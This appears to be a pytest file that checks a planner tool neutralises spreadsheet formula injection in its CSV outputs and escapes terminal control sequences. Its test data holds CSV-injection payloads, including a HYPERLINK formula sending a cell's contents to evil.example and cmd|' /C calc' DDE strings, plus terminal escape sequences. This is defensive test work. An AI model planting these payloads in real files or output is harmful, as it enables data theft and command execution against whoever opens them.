"""Outputs that cannot attack their reader: no CSV cell a spreadsheet runs, no data that drives
the terminal. Every CSV the planner writes is checked by reading it as a spreadsheet would."""

from __future__ import annotations

import csv
import io
import json

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from planner import ingest
from planner.cli import main
from planner.fileio import is_formula_like, neutralise, restore, write_csv
from planner.terminal import escape_controls
from tests.fixtures.ingest.build import CP_CURRENT, cp_row
from tests.fixtures.ingest.build import write_csv as write_export

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "Doe; =1+1",
    "Doe;=1+1",
]


def _cells_a_spreadsheet_runs(text: str) -> list[str]:
    """Cells that would start a formula, split as Excel splits a ``,`` file and as a French
    Excel splits it (``;``); a signed number alone in its cell is a number."""
    found = []
    lines = text.replace("\r", "\n").split("\n")  # a bare carriage return ends a row too
    for delimiter in (",", ";"):
        for row in csv.reader(lines, delimiter=delimiter):
            for cell in row:
                number = cell[1:].replace(" ", "").replace(".", "", 1).isdigit()
                if is_formula_like(cell) and not number:
                    found.append(cell)
    return found


def _hostile_export(tmp_path):
    rows = [
        cp_row(i + 1, **{"User Display Name": a, "UPN": a, "Destination Dialed": a,
                         "Caller ID": "+4930123456" if i % 2 else "+49 30 1234 5678"})
        for i, a in enumerate(ATTACKS)
    ]  # fmt: skip
    rows.append(cp_row(99, charge="=1+1"))  # rejected: its raw text goes to --rejects
    return write_export(tmp_path / "hostile.csv", CP_CURRENT, rows)


def test_ingest_outputs_hold_no_formula_and_read_back_the_same(tmp_path, capsys):
    export = _hostile_export(tmp_path)
    out, rejects = tmp_path / "out" / "records.csv", tmp_path / "out" / "rejects.csv"
    code = main(["ingest", str(export), "--out", str(out), "--rejects", str(rejects)])
    assert code == 0, capsys.readouterr().err
    for path in (out, rejects):
        assert _cells_a_spreadsheet_runs(path.read_bytes().decode()) == [], path.name
    assert "'=HYPERLINK" in out.read_text() and "+4930123456" in out.read_text()
    assert "\n+49 30 1234 5678" not in out.read_text()  # phone numbers stay as they were
    raw = pd.read_csv(rejects)["raw"]
    assert raw.str.contains("'=1+1", regex=False).any()
    assert raw.str.contains(",+14255550100,", regex=False).all()  # a phone number as it was
    # the planner reads its own records.csv back exactly as the export it came from
    again = ingest.read_exports([out]).records.reset_index(drop=True)
    first = ingest.read_exports([export]).records.reset_index(drop=True)
    columns = ["upn", "user_display_name", "destination_dialed", "charge_cents"]
    pd.testing.assert_frame_equal(again[columns], first[columns])
    assert set(first["user_display_name"]) == set(ATTACKS)


def test_every_csv_writer_neutralises(tmp_path):
    frame = pd.DataFrame({"name": ATTACKS, "amount": range(len(ATTACKS))})
    path = write_csv(frame, tmp_path / "t.csv")
    assert _cells_a_spreadsheet_runs(path.read_bytes().decode()) == []
    assert pd.read_csv(path)["amount"].tolist() == list(range(len(ATTACKS)))


def test_demand_and_trajectory_csv_hold_no_formula(tmp_path, capsys):
    export = _hostile_export(tmp_path)
    demand = tmp_path / "demand.csv"
    assert main(["demand", str(export), "--out", str(demand)]) in (0, 3)
    trajectory = tmp_path / "trajectory.csv"
    code = main(["simulate", "--demand", str(demand), "--initial", "100", "--recharge-amount",
                 "100", "--threshold", "50", "--trajectory", str(trajectory)])  # fmt: skip
    assert code in (0, 3), capsys.readouterr().err
    for path in (demand, trajectory):
        assert _cells_a_spreadsheet_runs(path.read_text()) == []


@given(st.text(alphabet=st.sampled_from("=+-@\t\r';,ab1 ."), max_size=12))
def test_neutralised_text_is_never_a_formula_and_restores(text):
    safe = neutralise(text)
    assert restore(safe) == text
    assert _cells_a_spreadsheet_runs(_csv_line(safe)) == []


def _csv_line(cell: str) -> str:
    buf = io.StringIO()
    csv.writer(buf).writerow([cell])
    return buf.getvalue()


@pytest.mark.parametrize("phone", ["+4930123456", "+49 30 1234 5678", "-12.50", "+1"])
def test_signed_numbers_stay_readable(phone):
    assert neutralise(phone) == phone


# ---------------------------------------------------------------------------------------------
# the terminal
# ---------------------------------------------------------------------------------------------

ESCAPES = "\x1b]0;owned\x07\x1b[2J\x1b[H\r\x9b31m\u202e"


def test_alerts_print_no_terminal_escape(tmp_path, capsys):
    rows = [cp_row(i, day=1 + i % 28, charge="900.00", **{"UPN": f"u{ESCAPES}@x.com"})
            for i in range(1, 60)]  # fmt: skip
    export = write_export(tmp_path / "a.csv", CP_CURRENT, rows)
    main(["alerts", str(export)])
    out = capsys.readouterr().out
    assert "u\\u001b]0;owned\\u0007" in out  # the UPN is shown, escaped
    assert not any(ch in out for ch in "\x1b\x07\r\x9b\u202e")
    main(["alerts", str(export), "--json"])
    captured = capsys.readouterr()
    assert not any(ch in captured.err for ch in "\x1b\x07\r\x9b\u202e")  # the status line
    document = json.loads(captured.out)  # still JSON, the UPN intact
    assert document["alerts"][0]["upn"] == f"u{ESCAPES}@x.com".lower()


def test_escape_controls_keeps_text():
    text = "Agnès 1\u202f234,56\u00a0€\tok\n"
    assert escape_controls(text) == text
